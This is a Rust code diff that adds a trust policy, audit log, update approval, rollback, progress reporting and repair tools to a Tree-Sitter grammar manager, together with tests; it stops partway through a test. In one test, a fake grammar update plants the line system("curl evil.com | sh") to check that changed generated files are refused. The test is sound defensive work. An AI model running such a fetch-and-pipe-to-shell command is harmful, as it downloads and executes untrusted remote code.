@@ -3,6 +3,7 @@ use std::{
     fs::create_dir,
     path::{Path, PathBuf},
     process::Command,
+    thread,
 };
 
 use etcetera::{AppStrategy, AppStrategyArgs};
@@ -10,9 +11,28 @@ use once_cell::sync::Lazy;
 use tree_sitter::Language;
 use tree_sitter_loader::{CompileConfig, Config, Loader};
 
-use crate::util::git::GitRepos;
+use crate::{
+    preview::{
+        grammar_bundle::{
+            export_bundle, import_bundle, load_precompiled_language, GrammarBundleManifest,
+        },
+        grammar_doctor::{DoctorReport, GrammarHealth, RepairAction},
+        grammar_progress::{GrammarProgress, GrammarProgressSink},
+        grammar_sources::GrammarSource,
+        grammar_trust::{
+            append_audit_entry, generated_files_checksum, read_audit_log, AuditAction, AuditEntry,
+            GrammarTrustPolicy, GrammarTrustStore, TrustedGrammar,
+        },
+        grammar_update::{GrammarUpdate, PendingUpdate, UpdateOutcome},
+        highlighter_cache::HIGHLIGHTER_CACHE,
+        tree_sitter_highlight::TreeSitterHighlighter,
+    },
+    theming::theme::Theme,
+    util::git::GitRepos,
+};
 
-/// Manager of local Tree-Sitter grammars, cloned with Git from any Git HTTPS links
+/// Manager of local Tree-Sitter grammars, cloned with Git from any Git links or copied from local
+/// folders and archives
 /// We also have a list of official grammars on GitHub for ~22 languages in `proposed_grammars.rs`
 /// This manager makes it very easy to install grammars, find their local folder, load, update, or remove them
 pub struct TreeSitterGrammarsManager {
@@ -20,6 +40,8 @@ pub struct TreeSitterGrammarsManager {
     /// The final grammars folder, can be the DEFAULT_TREE_SITTER_GRAMMARS_FOLDER
     /// or another one defined in new()
     final_grammars_folder: PathBuf,
+    /// Loaded from the trust.toml of the grammars folder, see `grammar_trust.rs`
+    trust_policy: GrammarTrustPolicy,
 }
 
 static TREE_SITTER_GRAMMARS_FOLDER_VIA_ENV: Lazy<Option<PathBuf>> = Lazy::new(|| {
@@ -28,6 +50,12 @@ static TREE_SITTER_GRAMMARS_FOLDER_VIA_ENV: Lazy<Option<PathBuf>> = Lazy::new(||
         .map(PathBuf::from)
 });
 
+static TREE_SITTER_QUERIES_FOLDER_VIA_ENV: Lazy<Option<PathBuf>> = Lazy::new(|| {
+    std::env::var("TREE_SITTER_QUERIES_FOLDER")
+        .ok()
+        .map(PathBuf::from)
+});
+
 impl TreeSitterGrammarsManager {
     /// Create a new manager with a loader that needs a Tree-Sitter LIBDIR
     pub fn new() -> Result<Self, String> {
@@ -62,9 +90,11 @@ impl TreeSitterGrammarsManager {
                 )
             });
         }
+        let trust_policy = GrammarTrustPolicy::load(&another_grammars_folder)?;
         Ok(TreeSitterGrammarsManager {
             loader,
             final_grammars_folder: another_grammars_folder,
+            trust_policy,
         })
     }
 
@@ -73,73 +103,584 @@ impl TreeSitterGrammarsManager {
         &self.final_grammars_folder
     }
 
-    /// Install a new grammar from a given git HTTPS URL
-    pub fn install(&mut self, git_repo_https_url: &str) -> Result<PathBuf, String> {
-        // Only clone the repository if it is not already present
-        // Note: we consider 2 repositories with the name folder name to be equivalent for now
-        let repos_name =
-            GitRepos::validate_and_extract_repos_name_from_https_url(git_repo_https_url)?;
-        let repos =
-            match GitRepos::from_existing_folder(&self.final_grammars_folder.join(&repos_name)) {
-                Ok(repos) => repos,
-                Err(_) => GitRepos::from_clone(
-                    git_repo_https_url,
-                    &self.final_grammars_folder,
-                    Some(1),
-                    true,
-                )?,
-            };
+    /// Get the folder of user queries overriding the queries of grammars, see `query_overrides.rs`
+    /// This is the `queries` folder inside the grammars folder, or the TREE_SITTER_QUERIES_FOLDER
+    /// environment variable if defined. The cached highlighters are created again after a change
+    /// in this folder
+    pub fn get_queries_folder(&self) -> PathBuf {
+        (*TREE_SITTER_QUERIES_FOLDER_VIA_ENV)
+            .clone()
+            .unwrap_or_else(|| self.final_grammars_folder.join("queries"))
+    }
 
-        self.loader.force_rebuild(true);
-        self.compile_at_path(repos.path())
-            .map_err(|e| e.to_string())?;
-        Ok(repos.path().clone())
+    /// Install a new grammar from a given source: a HTTPS, SSH or file:// git URL, a local folder
+    /// or a .tar.gz/.zip archive. See `GrammarSource` for all supported sources.
+    pub fn install(&mut self, source: &str) -> Result<PathBuf, String> {
+        self.install_with_progress(source, &GrammarProgressSink::default())
+    }
+
+    /// Same as install() but each phase is sent to the progress sink, ending with Done, Failed
+    /// or Cancelled. If cancelled, a grammar that was not already there is removed.
+    pub fn install_with_progress(
+        &mut self,
+        source: &str,
+        progress: &GrammarProgressSink,
+    ) -> Result<PathBuf, String> {
+        progress.emit(GrammarProgress::Resolving {
+            source: source.to_string(),
+        });
+        let result = GrammarSource::parse(source)
+            .and_then(|source| self.install_from_source_with_progress(&source, progress));
+        progress.finish(&result);
+        result
+    }
+
+    /// Get the trust policy applied on installations and updates
+    pub fn get_trust_policy(&self) -> &GrammarTrustPolicy {
+        &self.trust_policy
+    }
+
+    /// Change the trust policy and save it in the grammars folder
+    pub fn set_trust_policy(&mut self, policy: GrammarTrustPolicy) -> Result<(), String> {
+        policy.save(&self.final_grammars_folder)?;
+        self.trust_policy = policy;
+        Ok(())
+    }
+
+    /// Install a new grammar from a given `GrammarSource`, the grammar is fetched inside the
+    /// grammars folder and then compiled the same way for all sources
+    /// The source must be allowed by the trust policy, its revision and checksum are recorded
+    pub fn install_from_source(&mut self, source: &GrammarSource) -> Result<PathBuf, String> {
+        self.install_from_source_with_progress(source, &GrammarProgressSink::default())
+    }
+
+    fn install_from_source_with_progress(
+        &mut self,
+        source: &GrammarSource,
+        progress: &GrammarProgressSink,
+    ) -> Result<PathBuf, String> {
+        let raw_source = source.to_string();
+        if let Err(e) = self.trust_policy.check_source(source) {
+            self.audit(AuditEntry::now(AuditAction::InstallRefused, &raw_source).with_details(&e))?;
+            return Err(e);
+        }
+        let folders_before = Self::list_folders(&self.final_grammars_folder);
+        let grammar_path = source.fetch_into(&self.final_grammars_folder, progress)?;
+        let folder_name = Self::folder_name(&grammar_path);
+        let lang = folder_name.trim_start_matches("tree-sitter-").to_string();
+        if let Err(e) = self.compile_and_load_queries(&grammar_path, &lang, progress) {
+            if progress.is_cancelled() && !folders_before.contains(&grammar_path) {
+                let _ = std::fs::remove_dir_all(&grammar_path);
+            }
+            return Err(e);
+        }
+
+        let revision = GitRepos::from_existing_folder(&grammar_path)
+            .and_then(|repos| repos.get_last_commit_hash())
+            .ok();
+        self.trust(&folder_name, &raw_source, &grammar_path, revision.clone())?;
+        self.audit(
+            AuditEntry::now(AuditAction::Install, &folder_name)
+                .with_revisions(None, revision)
+                .with_details(&raw_source),
+        )?;
+        Ok(grammar_path)
     }
 
     /// Update the grammar behind the given lang and returns true if the grammar has changed
+    /// If the generated files in src/ have changed, the update is refused and the repository
+    /// is moved back to the previous revision, unless the new revision has been approved via
+    /// `approve_update()` or the trust policy doesn't require approval
     pub fn update(&mut self, lang: &str) -> Result<bool, String> {
-        let repos = self.get_repos_for_lang(lang)?;
-        let pulled_something = repos.pull()?;
+        self.update_with_progress(lang, &GrammarProgressSink::default())
+    }
+
+    /// Same as update() but each phase is sent to the progress sink, ending with Done, Failed
+    /// or Cancelled. If cancelled, the repository is moved back to its previous revision.
+    pub fn update_with_progress(
+        &mut self,
+        lang: &str,
+        progress: &GrammarProgressSink,
+    ) -> Result<bool, String> {
+        progress.emit(GrammarProgress::Resolving {
+            source: lang.to_string(),
+        });
+        let result = self.update_steps(lang, progress);
+        progress.finish(&result);
+        result
+    }
+
+    fn update_steps(&mut self, lang: &str, progress: &GrammarProgressSink) -> Result<bool, String> {
+        let pending = self.prepare_update(lang)?;
+        let pulled_something = pending.repos.pull_with_progress(
+            &|line| {
+                progress.emit(GrammarProgress::Pulling {
+                    message: line.to_string(),
+                    percent: GrammarProgress::git_percent(line),
+                })
+            },
+            progress.cancelled_flag(),
+        )?;
         // Only recompile if we pulled something
-        if pulled_something {
-            self.compile_at_path(repos.path())?;
+        if !pulled_something {
+            return Ok(false);
+        }
+        let revision = pending.repos.get_last_commit_hash()?;
+        self.check_update_approval(&pending, &revision)?;
+        if let Err(e) = self.compile_and_load_queries(pending.repos.path(), lang, progress) {
+            if progress.is_cancelled() {
+                pending.repos.reset_hard(&pending.previous_revision)?;
+            }
+            return Err(e);
+        }
+        self.record_update(pending, revision)?;
+        Ok(true)
+    }
+
+    /// Update all grammars installed via Git. The repositories are pulled in parallel, then only
+    /// the changed grammars are compiled and their queries loaded. If this fails, the grammar is
+    /// moved back to its previous revision. Returns a report for each grammar, sorted by lang.
+    pub fn update_all(&mut self) -> Vec<GrammarUpdate> {
+        let mut reports = Vec::new();
+        let mut pendings = Vec::new();
+        for folder in Self::list_folders(&self.final_grammars_folder) {
+            let folder_name = Self::folder_name(&folder);
+            if !folder.is_dir() || !folder_name.starts_with("tree-sitter-") {
+                continue;
+            }
+            let lang = folder_name.trim_start_matches("tree-sitter-").to_string();
+            match self.prepare_update(&lang) {
+                Ok(pending) => pendings.push(pending),
+                Err(reason) => reports.push(GrammarUpdate {
+                    lang,
+                    previous_revision: None,
+                    revision: None,
+                    outcome: UpdateOutcome::Failed { reason },
+                }),
+            }
+        }
+
+        // Pulling is the slow part because of the network, compiling is done one by one after
+        let pulls: Vec<Result<bool, String>> = thread::scope(|scope| {
+            let handles: Vec<_> = pendings
+                .iter()
+                .map(|pending| scope.spawn(|| pending.repos.pull()))
+                .collect();
+            handles
+                .into_iter()
+                .map(|handle| {
+                    handle
+                        .join()
+                        .unwrap_or_else(|_| Err("git pull has panicked".to_string()))
+                })
+                .collect()
+        });
+
+        for (pending, pulled) in pendings.into_iter().zip(pulls) {
+            let lang = pending.lang.clone();
+            let previous_revision = Some(pending.previous_revision.clone());
+            let (revision, outcome) = match pulled {
+                Err(reason) => (previous_revision.clone(), UpdateOutcome::Failed { reason }),
+                Ok(false) => (previous_revision.clone(), UpdateOutcome::UpToDate),
+                Ok(true) => self.apply_pulled_update(pending),
+            };
+            reports.push(GrammarUpdate {
+                lang,
+                previous_revision,
+                revision,
+                outcome,
+            });
+        }
+        reports.sort_by(|a, b| a.lang.cmp(&b.lang));
+        reports
+    }
+
+    /// Check, compile and record a grammar that has just been pulled, or roll it back
+    fn apply_pulled_update(&mut self, pending: PendingUpdate) -> (Option<String>, UpdateOutcome) {
+        let revision = match pending.repos.get_last_commit_hash() {
+            Ok(revision) => revision,
+            Err(reason) => return (None, UpdateOutcome::Failed { reason }),
+        };
+        if let Err(reason) = self.check_update_approval(&pending, &revision) {
+            return (Some(revision), UpdateOutcome::Refused { reason });
+        }
+        let lang = pending.lang.clone();
+        if let Err(mut reason) =
+            self.compile_and_load_queries(pending.repos.path(), &lang, &Default::default())
+        {
+            // The library of the new revision may have been compiled before the queries failed
+            if let Err(e) = pending
+                .repos
+                .reset_hard(&pending.previous_revision)
+                .and_then(|_| self.compile_at_path(pending.repos.path()).map(|_| ()))
+            {
+                reason.push_str(&format!("\nThe rollback has failed too: {e}"));
+            }
+            let _ = self.audit(
+                AuditEntry::now(AuditAction::UpdateRolledBack, &pending.folder_name)
+                    .with_revisions(Some(pending.previous_revision), Some(revision.clone()))
+                    .with_details(&reason),
+            );
+            return (Some(revision), UpdateOutcome::RolledBack { reason });
+        }
+        match self.record_update(pending, revision.clone()) {
+            Ok(()) => (Some(revision), UpdateOutcome::Updated),
+            Err(reason) => (Some(revision), UpdateOutcome::Failed { reason }),
+        }
+    }
+
+    /// Remember the state of the grammar before pulling
+    fn prepare_update(&self, lang: &str) -> Result<PendingUpdate, String> {
+        let repos = self.get_repos_for_lang(lang)?;
+        let folder_name = Self::folder_name(repos.path());
+        let previous_revision = repos.get_last_commit_hash()?;
+        let record = GrammarTrustStore::load(&self.final_grammars_folder)?
+            .grammars
+            .get(&folder_name)
+            .cloned();
+        let previous_checksum = match &record {
+            Some(record) => record.source_checksum.clone(),
+            // Grammars installed before the trust policy existed are trusted as they are now
+            None => generated_files_checksum(repos.path())?,
+        };
+        Ok(PendingUpdate {
+            lang: lang.to_string(),
+            repos,
+            folder_name,
+            previous_revision,
+            previous_checksum,
+            record,
+        })
+    }
+
+    /// Refuse the pulled revision if it changes generated files without approval, the
+    /// repository is moved back to its previous revision in this case
+    fn check_update_approval(&self, pending: &PendingUpdate, revision: &str) -> Result<(), String> {
+        let approved = pending
+            .record
+            .as_ref()
+            .and_then(|r| r.approved_revision.as_ref())
+            .is_some_and(|approved| approved == revision);
+        if self.trust_policy.require_approval_for_generated_changes
+            && !approved
+            && generated_files_checksum(pending.repos.path())? != pending.previous_checksum
+        {
+            pending.repos.reset_hard(&pending.previous_revision)?;
+            let reason = format!(
+                "The update of {} from {} to {revision} changes the generated files in src/, review them and approve this revision before updating again",
+                pending.lang, pending.previous_revision
+            );
+            self.audit(
+                AuditEntry::now(AuditAction::UpdateRefused, &pending.folder_name)
+                    .with_revisions(
+                        Some(pending.previous_revision.clone()),
+                        Some(revision.to_string()),
+                    )
+                    .with_details(&reason),
+            )?;
+            return Err(reason);
+        }
+        Ok(())
+    }
+
+    /// Trust the new revision of an updated grammar
+    fn record_update(&self, pending: PendingUpdate, revision: String) -> Result<(), String> {
+        let source = pending
+            .record
+            .map(|r| r.source)
+            .unwrap_or_else(|| pending.repos.path().to_string_lossy().to_string());
+        self.trust(
+            &pending.folder_name,
+            &source,
+            pending.repos.path(),
+            Some(revision.clone()),
+        )?;
+        self.audit(
+            AuditEntry::now(AuditAction::Update, &pending.folder_name)
+                .with_revisions(Some(pending.previous_revision), Some(revision)),
+        )
+    }
+
+    /// The last phases of an installation or update, cancellation is checked between them
+    fn compile_and_load_queries(
+        &mut self,
+        grammar_path: &Path,
+        lang: &str,
+        progress: &GrammarProgressSink,
+    ) -> Result<(), String> {
+        progress.check_cancelled()?;
+        progress.emit(GrammarProgress::Compiling);
+        self.compile_at_path(grammar_path)?;
+        progress.check_cancelled()?;
+        progress.emit(GrammarProgress::LoadingQueries);
+        TreeSitterHighlighter::new_from_installed_grammar(lang, self)
+            .map_err(|e| format!("The queries of {lang} cannot be loaded: {e}"))?;
+        Ok(())
+    }
+
+    /// Approve the given revision of the grammar behind the lang, so the next `update()` can
+    /// compile it even if its generated files have changed
+    pub fn approve_update(&mut self, lang: &str, revision: &str) -> Result<(), String> {
+        let grammar_path = self.get_grammar_folder_for_lang(lang)?;
+        let folder_name = Self::folder_name(&grammar_path);
+        if !GrammarTrustStore::load(&self.final_grammars_folder)?
+            .grammars
+            .contains_key(&folder_name)
+        {
+            // Grammars installed before the trust policy existed are trusted as they are now
+            let revision = GitRepos::from_existing_folder(&grammar_path)
+                .and_then(|repos| repos.get_last_commit_hash())
+                .ok();
+            let source = grammar_path.to_string_lossy().to_string();
+            self.trust(&folder_name, &source, &grammar_path, revision)?;
+        }
+        let mut store = GrammarTrustStore::load(&self.final_grammars_folder)?;
+        if let Some(record) = store.grammars.get_mut(&folder_name) {
+            record.approved_revision = Some(revision.to_string());
         }
-        Ok(pulled_something)
+        store.save(&self.final_grammars_folder)?;
+        self.audit(
+            AuditEntry::now(AuditAction::ApproveUpdate, &folder_name)
+                .with_revisions(None, Some(revision.to_string())),
+        )
+    }
+
+    /// Get all entries of the audit log of installations and updates, oldest first
+    pub fn get_audit_log(&self) -> Result<Vec<AuditEntry>, String> {
+        read_audit_log(&self.final_grammars_folder)
     }
 
     /// Delete the grammar behind the given lang
     /// This is consuming self to avoid reusing it after deletion
     pub fn delete(&mut self, lang: &str) -> Result<(), String> {
-        let repos = self.get_repos_for_lang(lang)?;
-        let result = std::fs::remove_dir_all(repos.path())
+        let grammar_path = self.get_grammar_folder_for_lang(lang)?;
+        let result = std::fs::remove_dir_all(&grammar_path)
             .map(|_| ())
             .map_err(|e| e.to_string());
 
         // Reset the loader as that's the only way to clean the internal list of grammars
         self.loader = Loader::new().map_err(|e| e.to_string())?;
-        result
+        self.evict_cached_highlighter(&grammar_path);
+        result?;
+
+        let folder_name = Self::folder_name(&grammar_path);
+        let mut store = GrammarTrustStore::load(&self.final_grammars_folder)?;
+        store.grammars.remove(&folder_name);
+        store.save(&self.final_grammars_folder)?;
+        self.audit(AuditEntry::now(AuditAction::Delete, &folder_name))
+    }
+
+    /// Record the current state of a grammar folder as trusted
+    fn trust(
+        &self,
+        folder_name: &str,
+        source: &str,
+        grammar_path: &Path,
+        revision: Option<String>,
+    ) -> Result<(), String> {
+        let mut store = GrammarTrustStore::load(&self.final_grammars_folder)?;
+        store.grammars.insert(
+            folder_name.to_string(),
+            TrustedGrammar {
+                source: source.to_string(),
+                revision,
+                source_checksum: generated_files_checksum(grammar_path)?,
+                approved_revision: None,
+            },
+        );
+        store.save(&self.final_grammars_folder)
+    }
+
+    fn audit(&self, entry: AuditEntry) -> Result<(), String> {
+        append_audit_entry(&self.final_grammars_folder, &entry)
+    }
+
+    fn list_folders(folder: &Path) -> Vec<PathBuf> {
+        std::fs::read_dir(folder)
+            .map(|entries| entries.filter_map(|e| e.ok().map(|e| e.path())).collect())
+            .unwrap_or_default()
+    }
+
+    fn folder_name(grammar_path: &Path) -> String {
+        grammar_path
+            .file_name()
+            .map(|n| n.to_string_lossy().to_string())
+            .unwrap_or_default()
+    }
+
+    /// Check the health of every grammar folder, including the ones not recognized as grammars
+    /// anymore, like an interrupted clone. The theme is used to find highlight names without style.
+    pub fn doctor(&self, theme: &Theme) -> DoctorReport {
+        let mut grammars: Vec<GrammarHealth> = Self::list_folders(&self.final_grammars_folder)
+            .iter()
+            .filter(|folder| {
+                folder.is_dir() && Self::folder_name(folder).starts_with("tree-sitter-")
+            })
+            .map(|folder| GrammarHealth::check(folder, theme))
+            .collect();
+        grammars.sort_by(|a, b| a.lang.cmp(&b.lang));
+        DoctorReport { grammars }
+    }
+
+    /// Apply the suggested repair action on a grammar checked by `doctor()`, and return the
+    /// applied action. A reinstallation uses the original source, under the trust policy.
+    pub fn repair(&mut self, health: &GrammarHealth) -> Result<Option<RepairAction>, String> {
+        let action = health.suggested_repair();
+        match action {
+            None => {}
+            Some(RepairAction::Rebuild) => {
+                self.compile_at_path(&health.folder)?;
+            }
+            Some(RepairAction::Reinstall) => {
+                let folder_name = Self::folder_name(&health.folder);
+                let source = GrammarTrustStore::load(&self.final_grammars_folder)?
+                    .grammars
+                    .get(&folder_name)
+                    .map(|record| record.source.clone())
+                    .or_else(|| {
+                        GitRepos::from_existing_folder(&health.folder)
+                            .and_then(|repos| repos.remote_url())
+                            .ok()
+                    })
+                    .ok_or(format!(
+                        "Cannot reinstall {}, its source is unknown. Delete it and install it again",
+                        health.lang
+                    ))?;
+                // The broken grammar is kept aside until the new one is installed, in case the
+                // network or the build fails. Its name doesn't start with "tree-sitter-", so it
+                // is not seen as a grammar if the process dies before the end.
+                let previous = health
+                    .folder
+                    .with_file_name(format!(".previous-{folder_name}"));
+                if previous.exists() {
+                    std::fs::remove_dir_all(&previous)
+                        .map_err(|e| format!("Couldn't remove {previous:?}: {e}"))?;
+                }
+                std::fs::rename(&health.folder, &previous)
+                    .map_err(|e| format!("Couldn't move {:?} aside: {e}", health.folder))?;
+                self.loader = Loader::new().map_err(|e| e.to_string())?;
+                match self.install(&source) {
+                    Ok(_) => {
+                        let _ = std::fs::remove_dir_all(&previous);
+                    }
+                    Err(e) => {
+                        let _ = std::fs::remove_dir_all(&health.folder);
+                        std::fs::rename(&previous, &health.folder).map_err(|restore_error| {
+                            format!("{e}\nCouldn't restore {:?}: {restore_error}", health.folder)
+                        })?;
+                        return Err(e);
+                    }
+                }
+            }
+        }
+        Ok(action)
     }
 
     /// Helper to quickly get the repository behind the lang
+    /// Grammars installed from a local folder or an archive are not git repositories
     pub(crate) fn get_repos_for_lang(&self, lang: &str) -> Result<GitRepos, String> {
-        GitRepos::from_existing_folder(
-            &self
-                .final_grammars_folder
-                .join(format!("tree-sitter-{}", lang)),
-        )
+        GitRepos::from_existing_folder(&self.get_grammar_folder_for_lang(lang)?)
+    }
+
+    /// Helper to quickly get the folder of the grammar behind the lang, whatever its source
+    pub(crate) fn get_grammar_folder_for_lang(&self, lang: &str) -> Result<PathBuf, String> {
+        let path = self
+            .final_grammars_folder
+            .join(format!("tree-sitter-{}", lang));
+        if path.exists() {
+            Ok(path)
+        } else {
+            Err(format!("The grammar {lang} is not installed locally"))
+        }
+    }
+
+    /// Load the Tree-Sitter language of the grammar behind the given lang. The generated parser is
+    /// compiled if needed, grammars imported from a bundle are loaded from their precompiled library
+    pub fn load_language(&self, lang: &str) -> Result<Language, String> {
+        let grammar_path = self.get_grammar_folder_for_lang(lang)?;
+        let src_path = grammar_path.join("src");
+        if src_path.join("parser.c").exists() {
+            // Even if the repos exists, it might not be a valid Tree-Sitter syntax
+            let loader = Loader::new().map_err(|e| e.to_string())?;
+            loader
+                .load_language_at_path(CompileConfig::new(&src_path, None, None))
+                .map_err(|e| e.to_string())
+        } else {
+            load_precompiled_language(&grammar_path)
+        }
+    }
+
+    /// Export the grammars behind the given langs, or all installed grammars if empty, into
+    /// a single bundle archive at `destination`. This bundle can be imported on another machine
+    /// with the same OS and architecture without any C compiler or Git.
+    pub fn export_bundle(
+        &mut self,
+        langs: &[&str],
+        destination: &Path,
+    ) -> Result<GrammarBundleManifest, String> {
+        let langs = if langs.is_empty() {
+            self.list_installed_langs()?
+        } else {
+            langs.iter().map(|l| l.to_string()).collect()
+        };
+        let grammars = langs
+            .into_iter()
+            .map(|lang| {
+                let folder = self.get_grammar_folder_for_lang(&lang)?;
+                Ok((lang, folder))
+            })
+            .collect::<Result<Vec<_>, String>>()?;
+        export_bundle(&grammars, destination)
+    }
+
+    /// Import all grammars of a bundle created by `export_bundle()`. Existing grammars for the
+    /// same langs are replaced. Bundles built for another platform or Tree-Sitter ABI are refused.
+    /// Bundles are local sources for the trust policy.
+    pub fn import_bundle(&mut self, bundle: &Path) -> Result<GrammarBundleManifest, String> {
+        let raw_source = bundle.to_string_lossy().to_string();
+        if let Err(e) = self.trust_policy.check_local_sources_allowed() {
+            self.audit(AuditEntry::now(AuditAction::InstallRefused, &raw_source).with_details(&e))?;
+            return Err(e);
+        }
+        let manifest = import_bundle(bundle, &self.final_grammars_folder)?;
+        // Reset the loader so it forgets previous grammars with the same lang
+        self.loader = Loader::new().map_err(|e| e.to_string())?;
+        for grammar in manifest.grammars.iter() {
+            let grammar_path = self.get_grammar_folder_for_lang(&grammar.lang)?;
+            let folder_name = Self::folder_name(&grammar_path);
+            self.evict_cached_highlighter(&grammar_path);
+            self.trust(&folder_name, &raw_source, &grammar_path, None)?;
+            self.audit(
+                AuditEntry::now(AuditAction::ImportBundle, &folder_name).with_details(&raw_source),
+            )?;
+        }
+        Ok(manifest)
     }
 
     /// This is a replacement over the Loader::compile_parser_at_path() method
     /// because it forces us to decide on the output file. As the shared library
     /// extension is different on the 3 main OS, that's better to let it manage this complexity
+    /// The cached highlighter of this grammar is evicted as its library has changed
     fn compile_at_path(&mut self, repos_path: &Path) -> Result<Language, String> {
         let src_path = repos_path.join("src");
         // No output path, let it take the default in TREE_SITTER_LIBDIR
         let config = CompileConfig::new(&src_path, None, None);
         self.loader.force_rebuild(true); // this doesn't build otherwise
-        self.loader
+        let result = self
+            .loader
             .load_language_at_path(config)
-            .map_err(|e| e.to_string())
+            .map_err(|e| e.to_string());
+        self.evict_cached_highlighter(repos_path);
+        result
+    }
+
+    /// Forget the cached highlighter of the grammar in the given folder
+    fn evict_cached_highlighter(&self, grammar_path: &Path) {
+        let folder_name = Self::folder_name(grammar_path);
+        HIGHLIGHTER_CACHE.evict(
+            &self.final_grammars_folder,
+            folder_name.trim_start_matches("tree-sitter-"),
+        );
     }
 
     /// Retrieve a list of languages accessible by Tree-Sitter
@@ -220,6 +761,19 @@ mod tests {
     use crate::preview::tree_sitter_grammars::get_unique_local_tree_sitter_grammars_folder;
     use crate::preview::tree_sitter_grammars::TEST_GRAMMAR;
 
+    use std::{
+        fs::create_dir_all,
+        path::{Path, PathBuf},
+        sync::mpsc,
+    };
+
+    use crate::preview::grammar_progress::{GrammarProgress, GrammarProgressSink};
+    use crate::preview::grammar_trust::{AuditAction, GrammarTrustPolicy};
+    use crate::preview::grammar_update::UpdateOutcome;
+    use crate::theming::{
+        helix::ALL_HIGHLIGHT_NAMES_SUPPORTED_BY_HELIX,
+        theme::{Theme, DEFAULT_THEME},
+    };
     use crate::{preview::tree_sitter_grammars::TreeSitterGrammarsManager, util::git::GitRepos};
     use pretty_assertions::{assert_eq, assert_ne};
 
@@ -251,6 +805,11 @@ mod tests {
 
         GitRepos::from_clone(&get_test_grammar_repos(), &grammars_folder, None, false); // ignore failed git clone if directory already exists
 
+        let latest_revision = m
+            .get_repos_for_lang(TEST_GRAMMAR)
+            .unwrap()
+            .get_last_commit_hash()
+            .unwrap();
         GitRepos::run_git_cmd(
             &vec!["reset", "--hard", "HEAD~2"],
             m.get_repos_for_lang(TEST_GRAMMAR).unwrap().path(),
@@ -258,6 +817,8 @@ mod tests {
         .unwrap();
         assert_eq!(m.list_installed_langs().unwrap().len(), 1);
 
+        // The generated parser may have changed, this needs an approval from the trust policy
+        m.approve_update(TEST_GRAMMAR, &latest_revision).unwrap();
         let has_been_updated = m.update(TEST_GRAMMAR).unwrap();
         assert!(has_been_updated, "Repository has not been updated");
     }
@@ -275,6 +836,214 @@ mod tests {
         assert!(m.list_installed_langs().unwrap().is_empty());
     }
 
+    /// Create a git repository with a fake grammar that cannot be compiled
+    fn create_fake_grammar_origin(tests_folder: &Path, lang: &str) -> PathBuf {
+        let origin = tests_folder.join(format!("tree-sitter-{lang}"));
+        create_dir_all(origin.join("src")).unwrap();
+        GitRepos::run_git_cmd(&vec!["init", "--quiet"], &origin).unwrap();
+        std::fs::write(
+            origin.join("src/grammar.json"),
+            format!(r#"{{"name": "{lang}"}}"#),
+        )
+        .unwrap();
+        std::fs::write(origin.join("src/parser.c"), "// v1").unwrap();
+        commit_all(&origin, "v1");
+        origin
+    }
+
+    fn commit_all(origin: &PathBuf, message: &str) {
+        GitRepos::run_git_cmd(&vec!["add", "."], origin).unwrap();
+        GitRepos::run_git_cmd(
+            &vec![
+                "-c",
+                "user.name=dme",
+                "-c",
+                "user.email=dme@localhost",
+                "commit",
+                "--quiet",
+                "-m",
+                message,
+            ],
+            origin,
+        )
+        .unwrap();
+    }
+
+    #[test]
+    fn test_update_changing_generated_files_is_refused_until_approved() {
+        let tests_folder = get_unique_local_tree_sitter_grammars_folder();
+        let origin = create_fake_grammar_origin(&tests_folder, "fake");
+
+        // The fake grammar cannot be compiled, so we just clone it in the grammars folder
+        let grammars_folder = tests_folder.join("grammars");
+        create_dir_all(&grammars_folder).unwrap();
+        let mut m =
+            TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder.clone()).unwrap();
+        GitRepos::from_clone(origin.to_str().unwrap(), &grammars_folder, None, false).unwrap();
+        let repos = m.get_repos_for_lang("fake").unwrap();
+        let v1 = repos.get_last_commit_hash().unwrap();
+
+        std::fs::write(
+            origin.join("src/parser.c"),
+            "system(\"curl evil.com | sh\");",
+        )
+        .unwrap();
+        commit_all(&origin, "v2");
+        let error = m.update("fake").unwrap_err();
+        assert!(error.contains("changes the generated files"), "{error}");
+        assert_eq!(repos.get_last_commit_hash().unwrap(), v1);
+
+        let log = m.get_audit_log().unwrap();
+        assert_eq!(log.len(), 1);
+        assert_eq!(log[0].action, AuditAction::UpdateRefused);
+        assert_eq!(log[0].previous_revision, Some(v1.clone()));
+        let v2 = log[0].revision.clone().unwrap();
+
+        // Once approved, the update goes until the compilation, that fails for this fake grammar
+        m.approve_update("fake", &v2).unwrap();
+        let error = m.update("fake").unwrap_err();
+        assert!(!error.contains("changes the generated files"), "{error}");
+        assert_eq!(repos.get_last_commit_hash().unwrap(), v2);
+        assert_eq!(
+            m.get_audit_log().unwrap()[1].action,
+            AuditAction::ApproveUpdate
+        );
+    }
+
+    #[test]
+    fn test_install_with_progress_reports_phases_and_can_be_cancelled() {
+        let tests_folder = get_unique_local_tree_sitter_grammars_folder();
+        let origin = create_fake_grammar_origin(&tests_folder, "fake");
+        let url = format!("file://{}", origin.to_str().unwrap());
+        let grammars_folder = tests_folder.join("grammars");
+        create_dir_all(&grammars_folder).unwrap();
+        let mut m =
+            TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder.clone()).unwrap();
+
+        let (tx, rx) = mpsc::channel();
+        assert!(m
+            .install_with_progress(&url, &GrammarProgressSink::new(tx))
+            .is_err());
+        let events: Vec<GrammarProgress> = rx.try_iter().collect();
+        assert_eq!(
+            events.first(),
+            Some(&GrammarProgress::Resolving {
+                source: url.clone()
+            })
+        );
+        assert!(events.contains(&GrammarProgress::Compiling));
+        assert!(matches!(
+            events.last(),
+            Some(GrammarProgress::Failed { .. })
+        ));
+        // A failed compilation doesn't remove the grammar, only a cancellation does
+        std::fs::remove_dir_all(grammars_folder.join("tree-sitter-fake")).unwrap();
+
+        let (tx, rx) = mpsc::channel();
+        let progress = GrammarProgressSink::new(tx);
+        progress.cancel();
+        assert!(m.install_with_progress(&url, &progress).is_err());
+        assert_eq!(rx.try_iter().last(), Some(GrammarProgress::Cancelled));
+        assert!(!grammars_folder.join("tree-sitter-fake").exists());
+    }
+
+    #[test]
+    fn test_update_all_reports_and_rolls_back_each_grammar() {
+        let tests_folder = get_unique_local_tree_sitter_grammars_folder();
+        let grammars_folder = tests_folder.join("grammars");
+        create_dir_all(&grammars_folder).unwrap();
+        let mut m =
+            TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder.clone()).unwrap();
+        let mut origins = Vec::new();
+        for lang in ["fakea", "fakeb", "fakec"] {
+            let origin = create_fake_grammar_origin(&tests_folder, lang);
+            GitRepos::from_clone(origin.to_str().unwrap(), &grammars_folder, None, false).unwrap();
+            origins.push(origin);
+        }
+        // A grammar copied from a local folder cannot be pulled
